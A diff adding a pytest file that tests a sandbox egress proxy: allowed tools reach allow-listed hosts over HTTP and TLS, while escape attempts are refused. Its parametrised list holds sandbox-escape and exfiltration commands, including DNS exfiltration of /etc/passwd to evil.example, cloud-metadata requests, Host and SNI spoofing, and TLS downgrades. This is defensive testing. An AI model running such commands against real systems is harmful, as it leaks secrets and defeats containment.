@@ -1,0 +1,494 @@
+"""Real programs in real boxes, through the proxy to real servers over TLS; and what must not get through."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import errno
+import functools
+import importlib.util
+import os
+import subprocess
+import sys
+import time
+from collections.abc import Callable, Coroutine, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from tests.contract.sandbox.support import ok
+from tests.sandbox.egress_internet import Internet, small_internet
+
+from etude.sandbox import Box, BoxSpec, Egress, EmbeddedSandboxes, Limits
+from etude.sandbox.contract import NO_EGRESS
+from etude.sandbox.egress import egress_of, log, read_log
+from etude.sandbox.egress.proxy import MOST_CONNECTIONS
+
+ALLOWED = Egress("test", ("index.example", "files.example", "packages.example", "deb.distro.example", "git.example"))
+ROOMY = Limits(memory_mb=2048, disk_mb=256, cpu_seconds=60)
+
+
+class Scene:
+    """One test's boxes on the module's backend, and what was logged since it began."""
+
+    def __init__(self, internet: Internet, sandboxes: EmbeddedSandboxes) -> None:
+        self.internet, self.sandboxes = internet, sandboxes
+        self.boxes: list[Box] = []
+        self._log = sandboxes.store.root / "egress"
+        self._before = len(list(read_log(self._log)))
+        internet.asked.clear()
+        internet.was_asked.clear()
+
+    @property
+    def rows(self) -> list[dict[str, Any]]:
+        return list(read_log(self._log))[self._before :]
+
+    @property
+    def refused(self) -> list[str]:
+        return [row["refused"] for row in self.rows if "refused" in row]
+
+    async def box(self, egress: Egress = ALLOWED, image: str = "host") -> Box:
+        self.boxes.append(await self.sandboxes.create(BoxSpec(image, egress=egress, limits=ROOMY)))
+        return self.boxes[-1]
+
+
+def on_stage(test: Callable[..., Coroutine[Any, Any, None]]) -> Callable[..., None]:
+    @functools.wraps(test)
+    def run(stage: Scene, **arguments: Any) -> None:
+        async def body() -> None:
+            try:
+                await test(stage, **arguments)
+            finally:
+                await asyncio.gather(*(box.destroy() for box in stage.boxes))
+
+        asyncio.run(body())
+
+    return run
+
+
+@pytest.fixture(scope="module")
+def backend(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Internet, EmbeddedSandboxes]]:
+    with small_internet(tmp_path_factory.mktemp("internet")) as internet:
+        sandboxes = EmbeddedSandboxes(tmp_path_factory.mktemp("boxes"), upstream=internet.upstream)
+        yield internet, sandboxes
+        asyncio.run(sandboxes.close())
+
+
+@pytest.fixture
+def stage(backend: tuple[Internet, EmbeddedSandboxes]) -> Scene:
+    return Scene(*backend)
+
+
+def packages(*names: str) -> dict[str, bytes]:
+    """Installed packages of this interpreter, as files of an image."""
+    files = {}
+    for name in names:
+        spec = importlib.util.find_spec(name)
+        assert spec is not None
+        assert spec.origin is not None
+        for path in Path(spec.origin).parent.rglob("*"):
+            if path.suffix in (".py", ".pem", ".json"):
+                files[f"lib/{name}/{path.relative_to(Path(spec.origin).parent)}"] = path.read_bytes()
+    return files
+
+
+LIBRARIES = (
+    *("requests", "certifi", "urllib3", "idna", "charset_normalizer"),
+    *("httpx", "httpcore", "h11", "anyio"),
+)
+
+# -- what gets through
+
+CLIENTS = {
+    "curl": "curl -sS https://index.example/page http://index.example/page",
+    "wget": "wget -qO- https://index.example/page; wget -qO- http://index.example/page",
+    "urllib": "python -c \"import urllib.request as u; [print(u.urlopen(s + '://index.example/page').read().decode()) "
+    "for s in ('http', 'https')]\"",
+    "node": "node -e \"for (const s of ['http', 'https']) fetch(s + '://index.example/page').then(async r => "
+    'console.log(await r.text()))"',
+    "requests": "PYTHONPATH=lib python -c \"import requests as r; [print(r.get(s + '://index.example/page').text) "
+    "for s in ('http', 'https')]\"",
+    "httpx": "PYTHONPATH=lib python -c \"import httpx as r; [print(r.get(s + '://index.example/page').text) "
+    "for s in ('http', 'https')]\"",
+    "openssl": "for p in 80 443; do printf 'GET /page HTTP/1.0\\r\\nHost: index.example\\r\\n\\r\\n' | "
+    'if [ $p = 80 ]; then perl -MIO::Socket -e \'$s = IO::Socket::INET->new("index.example:80"); print $s <STDIN>; '
+    "print <$s>'; else openssl s_client -quiet -verify_return_error -connect index.example:443; fi; done",
+}
+
+
+@on_stage
+async def test_clients_over_tls_and_plain(stage: Scene) -> None:
+    box = await stage.box(image=await stage.sandboxes.add_image(packages(*LIBRARIES)))
+    for name, command in CLIENTS.items():
+        said = await box.exec(command, timeout=60)
+        assert said.stdout.count(b"page of index.example") == 2, (name, said)
+    served = {(row["scheme"], row["status"]) for row in stage.rows}
+    assert served == {("http", 200), ("https", 200)}
+    assert stage.refused == []
+
+
+@on_stage
+async def test_pip_installs(stage: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+    index = "https://index.example/all"
+    monkeypatch.setenv("PIP_INDEX_URL", index)
+    box = await stage.box(egress_of("pip,files.example"))
+    install = f"/usr/bin/python3 -m pip install -q --index-url {index} --target t --no-cache-dir"
+    ok(await box.exec(f"{install} tiny-package", timeout=60))
+    assert (
+        ok(await box.exec("PYTHONPATH=t python -c 'import tiny_package as t; print(t.answer)'", timeout=20)) == "42\n"
+    )
+    assert [row["host"] for row in stage.rows if row.get("status") == 200] == ["index.example", "files.example"]
+    failed = await box.exec(f"{install} absent-package", timeout=60)
+    assert failed.code != 0
+    assert b"No matching distribution" in failed.stderr
+
+
+@on_stage
+async def test_npm_installs(stage: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+    registry = "https://packages.example"
+    monkeypatch.setenv("npm_config_registry", registry)
+    box = await stage.box(egress_of("npm"))
+    install = f"npm install --registry {registry} --no-audit --no-fund tiny-package"
+    ok(await box.exec(f"npm init -y && {install}", timeout=60))
+    assert ok(await box.exec(["node", "-p", "require('tiny-package')"], timeout=20)) == "42\n"
+
+
+@on_stage
+async def test_git_clones_and_cannot_push(stage: Scene) -> None:
+    box = await stage.box(egress_of("git.example"))
+    ok(await box.exec("git clone -q https://user:s3cret@git.example/team/repo.git", timeout=60))
+    assert ok(await box.exec("cd repo && ls | wc -l && git fsck 2>&1 && git fetch -q", timeout=20)).startswith("200\n")
+    change = "git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x"
+    pushed = await box.exec(f"cd repo && {change} && GIT_TERMINAL_PROMPT=0 git push -q", timeout=60)
+    assert pushed.code != 0
+    assert not [fields for _, _, _, fields in stage.internet.asked if "Authorization" in fields]
+    assert "s3cret" not in str(stage.internet.asked) + str(stage.rows)
+
+
+@on_stage
+async def test_apt_updates_and_fetches(stage: Scene) -> None:
+    options = "-o Dir::State=/work/s -o Dir::Cache=/work/c -o Dir::Etc=/work/e -o Dir::State::status=/work/status"
+    prepare = "mkdir -p s/lists/partial c/archives/partial e && touch status && "
+    prepare += "echo 'deb [trusted=yes] http://deb.distro.example/debian stable main' >e/sources.list"
+    box = await stage.box(egress_of("deb.distro.example"))
+    ok(await box.exec(f"{prepare} && apt-get {options} update && apt-get {options} download tiny", timeout=60))
+    assert ok(await box.exec("cat tiny_*.deb", timeout=5)) == "deb\n"
+
+
+@on_stage
+async def test_bodies_of_all_sizes(stage: Scene) -> None:
+    box = await stage.box()
+    assert ok(await box.exec("curl -sS https://index.example/large?100000000 | wc -c", timeout=60)) == "100000000\n"
+    upload = "head -c 9000000 /dev/zero >f && sha256sum <f | cut -c-64 && curl -sS --data-binary @f https://index.example/echo"
+    sent, received = ok(await box.exec(upload, timeout=60)).split()
+    assert sent == received
+    assert [(row["sent"], row["received"]) for row in stage.rows] == [(0, 100_000_000), (9_000_000, 64)]
+
+
+@on_stage
+async def test_children_and_snapshots_keep_the_way_out_and_not_its_files(stage: Scene) -> None:
+    box = await stage.box()
+    ok(await box.exec("curl -sS https://index.example/page >got", timeout=20))
+    (child,) = await box.fork()
+    stage.boxes.append(child)
+    for one in (box, child):
+        assert "index.example" in ok(await one.exec("cat got && curl -sS https://index.example/page", timeout=20))
+    closed = await stage.box(NO_EGRESS, await child.snapshot())
+    seen = await closed.exec("cat got; ls /etc/ssl; env | grep CERT; cat /etc/resolv.conf", timeout=20)
+    assert (seen.stdout, b"/etc/ssl" in seen.stderr) == (b"page of index.example\n", True)
+
+
+# -- what does not
+
+
+@pytest.mark.parametrize(
+    ("command", "reason"),
+    [
+        ("curl -sS https://evil.example/page", "no pattern"),
+        ("curl -sS https://index.example.evil.example/page", "no pattern"),
+        ("curl -sS --resolve evil.example:443:198.18.0.1 -k https://evil.example/page", "no name was given"),
+        ("curl -sS -L https://index.example/away", "no pattern"),
+        ("curl -sS https://1.2.3.4/", "no name was given"),
+        ("curl -sS http://169.254.169.254/latest/meta-data/", "no name was given"),
+        ("curl -sS http://192.168.1.1/", "no name was given"),
+        ("getent hosts $(head -c 30 /etc/passwd | od -An -tx1 | tr -d ' \\n').evil.example", "no pattern"),
+        ("curl -sSk --connect-to evil.example:443:index.example:443 https://evil.example/page", "TLS handshake"),
+        ("curl -sS -H 'Host: evil.example' https://index.example/page", "a request for host"),
+        ("curl -sS -H 'Host: evil.example' http://index.example/page", "a request for host"),
+        ("printf 'GET / HTTP/1.1\\r\\nHost: index.example\\r\\n\\r\\n' | "
+         "openssl s_client -quiet -noservername -connect index.example:443", "no name on"),
+        ("printf 'SSH-2.0-x\\r\\n\\r\\n' | openssl s_client -quiet -connect index.example:443", "no request line"),
+        ("head -c 3000 /dev/urandom | tr '\\0' x | sed 's/^/\\x16/' | perl -MIO::Socket -e '$s = IO::Socket::INET->new("
+         "\"index.example:443\"); print $s <STDIN>; shutdown $s, 1; print <$s>'", "handshake failed"),
+        ("curl -sS --tlsv1.1 --tls-max 1.1 --ciphers DEFAULT@SECLEVEL=0 https://index.example/page",
+         "handshake failed"),
+        ("SSL_CERT_FILE=/x SSL_CERT_DIR=/x python -c 'import urllib.request as u; u.urlopen(\"https://index.example/page\")'",
+         "handshake failed"),
+        ("curl -sS --http2-prior-knowledge http://index.example/page", "HTTP/2"),
+        ("curl -sS -H 'Connection: Upgrade' -H 'Upgrade: websocket' https://index.example/page", "upgrade"),
+        ("curl -sS -x http://index.example:80 http://evil.example/page", "as proxies are"),
+        ("curl -sS -p -x http://index.example:80 https://evil.example/page", "as proxies are"),
+    ],
+)  # fmt: skip
+@on_stage
+async def test_what_does_not_get_through(stage: Scene, command: str, reason: str) -> None:
+    box = await stage.box()
+    said = await box.exec(command, timeout=30)
+    assert b"page of" not in said.stdout, said
+    assert not [asked for asked in stage.internet.asked if asked[2] == "/page"]
+    assert any(reason in refused for refused in stage.refused), (said, stage.rows)
+
+
+@pytest.mark.parametrize(
+    ("target", "kind"),
+    [
+        ("index.example 22", "STREAM"),
+        ("index.example 8443", "STREAM"),
+        ("1.2.3.4 25", "STREAM"),
+        ("index.example 443", "DGRAM"),
+    ],
+)
+@on_stage
+async def test_other_ports_and_datagrams_are_refused(stage: Scene, target: str, kind: str) -> None:
+    host, port = target.split()
+    script = f"import socket as s; c = s.socket(s.AF_INET, s.SOCK_{kind}); c.settimeout(5); "
+    script += f"c.connect(('{host}', {port})); c.send(b'x'); c.recv(1)"
+    said = await (await stage.box()).exec(["python", "-c", script], timeout=20)
+    assert b"ConnectionRefusedError" in said.stderr
+    assert said.seconds < 4
+
+
+@on_stage
+async def test_a_name_server_asked_directly_knows_no_more(stage: Scene) -> None:
+    script = """
+import socket, struct
+def ask(server, name, tcp):
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
+    q = struct.pack("!HHHHHH", 5, 256, 1, 0, 0, 0) + labels + b"\\0\\0\\1\\0\\1"
+    s = socket.create_connection((server, 53), 5) if tcp else socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    if tcp:
+        s.sendall(struct.pack("!H", len(q)) + q)
+        return s.recv(512)[2:]
+    s.connect((server, 53))
+    s.send(q)
+    return s.recv(512)
+for server in ("192.168.1.1", "8.8.8.8"):
+    for tcp in (0, 1):
+        print([ask(server, name, tcp)[3] & 15 for name in ("index.example", "evil.example")])
+"""
+    box = await stage.box()
+    assert ok(await box.exec(["python", "-c", script], timeout=20)) == "[0, 3]\n" * 4
+
+
+@on_stage
+async def test_loopback_and_all_ports_are_the_boxs_own(stage: Scene) -> None:
+    script = """
+import socket
+for host in ("0.0.0.0", "127.0.0.1", "192.168.1.20"):
+    with socket.create_server((host, 8443)) as s, socket.create_connection(s.getsockname()) as c:
+        a, _ = s.accept()
+        a.send(b"own")
+        print(c.recv(9))
+"""
+    box = await stage.box(Egress("test", ("index.example:8443",)))
+    assert ok(await box.exec(["python", "-c", script], timeout=20)) == "b'own'\n" * 3
+    refused = await box.exec("curl -sS http://127.0.0.1:8443/; curl -sS http://127.0.0.1:80/", timeout=20)
+    assert refused.stderr.count(b"Couldn't connect") + refused.stderr.count(b"Failed to connect") >= 2
+    assert stage.refused == []
+
+
+@on_stage
+async def test_two_boxes_are_apart(stage: Scene) -> None:
+    one, other = await stage.box(), await stage.box(Egress("less", ("git.example",)))
+    server = asyncio.create_task(one.exec("python -m http.server 9000", timeout=20))
+    assert "page" in ok(await one.exec("curl -sS https://index.example/page", timeout=20))
+    for place in ("192.168.1.20:9000", "192.168.1.1:9000", "198.18.0.1:443"):
+        assert (await other.exec(f"curl -sS -m 5 http://{place}/", timeout=20)).code != 0
+    assert (await other.exec("curl -sS https://index.example/page", timeout=20)).code == 6
+    server.cancel()
+
+
+ASK_LOCALHOST = r"""
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.connect(("192.168.1.1", 53))
+s.send(struct.pack("!HHHHHH", 5, 256, 1, 0, 0, 0) + b"\x09localhost\0\0\1\0\1")
+print(".".join(map(str, s.recv(99)[-4:])))
+"""
+
+
+@on_stage
+async def test_names_that_lead_into_the_host_are_refused(stage: Scene) -> None:
+    port = stage.internet.plain_port
+    box = await stage.box(Egress("test", (f"localhost:{port}",)))
+    address = ok(await box.exec(["python", "-c", ASK_LOCALHOST], timeout=20)).strip()
+    assert address.startswith("198.18.")
+    said = await box.exec(f"curl -sS --resolve localhost:{port}:{address} http://localhost:{port}/page", timeout=20)
+    assert b"keeps from boxes" in said.stdout, said
+    assert stage.internet.asked == []
+
+
+# -- many, slow, and the end
+
+CROWD = r"""
+import select, socket, sys
+held, ended = [], 0
+for _ in range(900):
+    try:
+        held.append(socket.create_connection(("index.example", 443), 10))
+    except ConnectionResetError:
+        ended += 1
+poll = select.poll()
+for c in held:
+    poll.register(c, select.POLLIN | select.POLLHUP)
+while ended < 900 - int(sys.argv[1]):
+    for number, _ in poll.poll(10000) or exit("only %d were closed" % ended):
+        poll.unregister(number)
+        ended += 1
+print("the rest was closed")
+"""
+
+
+def wait_until(holds: Callable[[], bool]) -> None:
+    deadline = time.monotonic() + 20
+    while not holds():
+        assert time.monotonic() < deadline
+        time.sleep(0.01)
+
+
+def open_sockets() -> int:
+    """Of this process: those of a gate would keep its network alive."""
+    links = []
+    for number in list(Path("/proc/self/fd").iterdir()):
+        with contextlib.suppress(FileNotFoundError):  # The one that the list was read with.
+            links.append(str(number.readlink()))
+    return sum(link.startswith("socket:") for link in links)
+
+
+@on_stage
+async def test_thousands_of_connections_are_bounded(stage: Scene) -> None:
+    box = await stage.box()
+    assert ok(await box.exec(["python", "-c", CROWD, str(MOST_CONNECTIONS)], timeout=60)) == "the rest was closed\n"
+    assert sum("connections of a box at once" in refused for refused in stage.refused) == 900 - MOST_CONNECTIONS
+    assert "page" in ok(await box.exec("curl -sS https://index.example/page", timeout=20))
+
+
+@on_stage
+async def test_all_boxes_together_leave_descriptors_free(stage: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+    one, other = await stage.box(), await stage.box()
+    gate = stage.sandboxes._egress
+    assert gate is not None
+    monkeypatch.setattr(gate.crowd, "most", 5)
+    assert ok(await one.exec(["python", "-c", CROWD, "5"], timeout=60)) == "the rest was closed\n"
+    assert sum("5 connections of all boxes at once" in refused for refused in stage.refused) == 900 - 5
+    assert "page" in ok(await other.exec("curl -sS https://index.example/page", timeout=20))
+
+
+def test_boxes_by_the_hundred_have_descriptors() -> None:
+    script = """
+import resource as r
+from etude.sandbox.egress.proxy import Crowd
+hard = r.getrlimit(r.RLIMIT_NOFILE)[1]
+r.setrlimit(r.RLIMIT_NOFILE, (256, hard))
+crowd = Crowd()
+print((r.getrlimit(r.RLIMIT_NOFILE), crowd.most) == ((min(hard, 65536), hard), min(hard, 65536) // 8))
+"""
+    said = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
+    assert said.stdout == "True\n"
+
+
+@on_stage
+async def test_fifty_boxes_at_once_are_all_served(stage: Scene) -> None:
+    boxes = await asyncio.gather(*(stage.box() for _ in range(50)))
+    asked = (box.exec("curl -sS https://index.example/page", timeout=120) for box in boxes)
+    said = await asyncio.gather(*asked)
+    assert [(one.code, one.stdout, one.stderr) for one in said] == [(0, b"page of index.example\n", b"")] * 50
+    assert stage.refused == []
+
+
+@on_stage
+async def test_a_box_that_ends_in_the_middle_leaves_nothing(stage: Scene) -> None:
+    before = open_sockets()
+    box = await stage.box()
+    running = asyncio.create_task(box.exec("curl -sS https://index.example/large?1000000000000 >/dev/null", timeout=60))
+    await asyncio.to_thread(stage.internet.was_asked.wait, 20)
+    await box.destroy()
+    await asyncio.gather(running, return_exceptions=True)
+    await asyncio.to_thread(wait_until, lambda: open_sockets() <= before)
+    (row,) = stage.rows
+    assert row["fault"]
+    assert row["received"] > 0
+
+
+@on_stage
+async def test_a_log_that_cannot_be_written_shuts_the_way_out(stage: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+    box = await stage.box()
+    assert "page" in ok(await box.exec("curl -sS https://index.example/page", timeout=20))
+
+    def full(*_: object) -> None:
+        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+
+    monkeypatch.setattr(log, "append_rows", full)
+    asyncio.get_running_loop().set_exception_handler(lambda *_: None)
+    await box.exec("curl -sS https://index.example/page", timeout=20)
+    stage.internet.asked.clear()
+    assert (await box.exec("curl -sS -m 5 https://index.example/page", timeout=20)).code != 0
+    assert stage.internet.asked == []
+
+
+@on_stage
+async def test_without_a_policy_there_is_only_loopback(stage: Scene) -> None:
+    box = await stage.box(Egress("none"))
+    assert ok(await box.exec("cat /proc/net/dev | wc -l", timeout=5)) == "3\n"
+    assert (await box.exec("curl -sS -m 5 https://index.example/page", timeout=20)).code == 6
+    assert stage.rows == []
+
+
+HANDSHAKES = r"""
+import random, socket, ssl
+def hello():
+    context = ssl.create_default_context()
+    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = context.wrap_bio(into, out, server_hostname="index.example")
+    try: tls.do_handshake()
+    except ssl.SSLWantReadError: pass
+    return tls, into, out
+chance = random.Random(7)
+for _ in range(100):
+    data = bytearray(hello()[2].read())
+    for _ in range(chance.randrange(1, 6)):
+        data[chance.randrange(5, len(data))] = chance.randrange(256)
+    with socket.create_connection(("index.example", 443), 5) as c:
+        c.sendall(data[:chance.randrange(6, len(data))])
+        c.shutdown(socket.SHUT_WR)
+        try:
+            while c.recv(4096): pass
+        except OSError: pass
+tls, into, out = hello()
+c = socket.create_connection(("index.example", 443), 5)
+c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+def send():
+    for byte in out.read(): c.send(bytes([byte]))
+def step(do):
+    while True:
+        try: return do()
+        except ssl.SSLWantReadError:
+            send()
+            into.write(c.recv(4096))
+step(tls.do_handshake)
+tls.write(b"GET /page HTTP/1.1\r\nHost: index.example\r\n\r\n")
+send()
+heard = ""
+while not heard.endswith("page of index.example\n"):
+    heard += step(lambda: tls.read(4096)).decode()
+print(heard, end="")
+"""
+
+
+@on_stage
+async def test_handshakes_in_pieces_and_broken_ones(stage: Scene) -> None:
+    box = await stage.box()
+    assert ok(await box.exec(["python", "-c", HANDSHAKES], timeout=60)).endswith("page of index.example\n")
+    assert [asked[2] for asked in stage.internet.asked] == ["/page"]
+    assert any("handshake failed" in refused for refused in stage.refused)
